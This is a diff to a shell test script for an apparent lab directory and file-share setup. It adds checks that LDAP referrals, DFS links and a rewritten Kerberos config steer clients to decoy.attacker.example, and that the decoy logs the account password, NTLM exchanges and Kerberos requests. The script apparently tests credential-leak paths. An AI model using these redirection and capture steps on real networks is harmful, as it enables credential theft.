@@ -14,6 +14,8 @@ prove_credentials() {
   prove_count
   prove_service_name
   prove_shares
+  prove_referrals
+  prove_decoy
 }
 
 bind() { # bind ACCOUNT PASSWORD: as a user of dc1, and a search
@@ -114,4 +116,53 @@ prove_shares() {
     proof "smb: the account as $name" '^A package\.$' appliance smbclient --use-kerberos=off \
       -W "" -U "$name%$ACCOUNT_PASSWORD" //myfileshare.uni.edu/packages -c 'get readme.txt -'
   done
+}
+
+# Where no credential may come: every way there works, for a client that follows it, and is logged.
+prove_decoy() {
+  local tool=LDAPTLS_CACERT=$INSIDE/trust/campus-ca.pem n
+  local account="cn=$ACCOUNT,cn=Users,dc=uni,dc=edu" to="ldaps://decoy.attacker.example"
+  proof "decoy: its rootDSE, under its name" 'defaultNamingContext: dc=uni,dc=edu' appliance "$tool" \
+    ldapsearch -LLL -x -H "$to" -s base -b "" defaultNamingContext
+  proof "decoy: it takes the account's bind" "^dn: $account" appliance "$tool" ldapsearch -LLL -x -H "$to" \
+    -D "$account" -w "$ACCOUNT_PASSWORD" -b "$account"
+  proof "decoy: and keeps the password" '^1$' campus grep -ac "$ACCOUNT_PASSWORD" "$INSIDE/log/decoy/636-tcp"
+  proof "decoy: smb by a DFS link" '^A package\.$' appliance sh -c \
+    "$(share "$ACCOUNT" "$ACCOUNT_PASSWORD" //myfileshare.uni.edu/dfs | sed "s/-c '.*/-c 'cd outside; get readme.txt -'/")"
+  proof "smb: a DFS link to the share itself" '^A package\.$' appliance sh -c \
+    "$(share "$ACCOUNT" "$ACCOUNT_PASSWORD" //myfileshare.uni.edu/dfs | sed "s/-c '.*/-c 'cd inside; get readme.txt -'/")"
+  proof "decoy: and notes who came by smb" '^[1-9]' campus grep -aoc NTLMSSP "$INSIDE/log/decoy/445-tcp"
+  python3 "$HERE/lib/logins.py" "$DIR/log" "$ACCOUNT" >"$DIR/log/logins.txt"
+  proof "logins: the decoy's" "^decoy.SMB2.$ACCOUNT" campus cat "$INSIDE/log/logins.txt"
+  for n in 1 1400; do
+    proof "decoy: kerberos (udp below $n bytes)" 'krbtgt/UNI.EDU@UNI.EDU' appliance sh -c \
+      "sed 's|kdc = .*|kdc = decoy.attacker.example|; s|rdns.*|udp_preference_limit = $n|' \
+         $INSIDE/krb5kdc/krb5.conf >/run/krb5.conf
+       export KRB5_CONFIG=/run/krb5.conf; $(ticket "$ACCOUNT" "$ACCOUNT_PASSWORD") && klist -c FILE:/run/tickets"
+  done
+  proof "decoy: it notes everyone who came" '^4 198.18.1.10$' campus sh -c \
+    "sort -u $INSIDE/log/decoy/connections | cut -d' ' -f2 | uniq -c | xargs"
+}
+
+prove_referrals() {
+  local tool=LDAPTLS_CACERT=$INSIDE/trust/campus-ca.pem dc to=ldaps://decoy.attacker.example
+  proof "ldaps: dc2 takes the account by its name" "^dn: dc=uni,dc=edu" appliance "$tool" ldapsearch -LLL -x \
+    -H ldaps://dc2.uni.edu -D "$ACCOUNT@uni.edu" -w "$ACCOUNT_PASSWORD" -s base -b dc=uni,dc=edu
+  proof "ldaps: dc2, a wrong password" '^ldap_bind: Invalid credentials \(49\)' appliance "$tool" ldapsearch -LLL -x \
+    -H ldaps://dc2.uni.edu -D "$ACCOUNT@uni.edu" -w wrong -s base -b dc=uni,dc=edu
+  proof "ldaps: dc2 refers to the decoy below the base" "^# ref$to/ou=elsewhere" appliance "$tool" ldapsearch \
+    -LLL -x -H ldaps://dc2.uni.edu -b dc=uni,dc=edu
+  proof "ldaps: dc2 refers whoever asks for another base" "^Referral: $to/dc=attacker" appliance "$tool" ldapsearch \
+    -LLL -x -H ldaps://dc2.uni.edu -b dc=attacker,dc=example
+  (switch_on ldap-referral)
+  for dc in dc1 dc2; do
+    proof "ldaps: ldap-referral, $dc" "^Referral: $to/dc=uni" appliance "$tool" ldapsearch -LLL -x \
+      -H "ldaps://$dc.uni.edu" -D "$ACCOUNT@uni.edu" -w "$ACCOUNT_PASSWORD" -b dc=uni,dc=edu
+    proof "ldaps: ldap-referral, $dc's rootDSE as ever" "^dnsHostName: $dc" appliance "$tool" ldapsearch -LLL -x \
+      -H "ldaps://$dc.uni.edu" -s base -b "" dnsHostName
+  done
+  (switch_off; switch_on ldap-bind-referral)
+  proof "ldaps: ldap-bind-referral" '^ldap_bind: Referral \(10\)' appliance "$tool" ldapsearch -LLL -x \
+    -H ldaps://dc1.uni.edu -D "$ACCOUNT@uni.edu" -w "$ACCOUNT_PASSWORD" -b dc=uni,dc=edu
+  (switch_off)
 }
